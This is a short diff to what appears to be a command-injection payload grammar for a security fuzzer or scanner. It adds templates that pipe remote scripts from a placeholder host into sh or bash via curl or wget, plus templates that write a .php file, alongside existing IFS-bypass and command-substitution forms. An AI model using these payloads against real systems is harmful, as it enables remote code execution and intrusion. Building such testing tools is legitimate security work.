@@ -477,6 +477,12 @@ export const CMDI: Grammar = {
   ],
   ifs: [' ', '${IFS}', '$IFS', '${IFS%??}', '\t', '<', '$IFS$9', '{,}'],
   sub: [
+    '$(curl http://<host>/<token>.sh | sh)',
+    '$(curl -s <host>/<token>|bash)',
+    '`wget -qO- http://<host>/<token> | sh`',
+    '<word>`wget -qO- <host>/<token>`',
+    ' | echo <word> > <word>.php |',
+    '| echo <token> > <word>.php |',
     '$(<command>)',
     '`<command>`',
     '$(<command>)<word>',
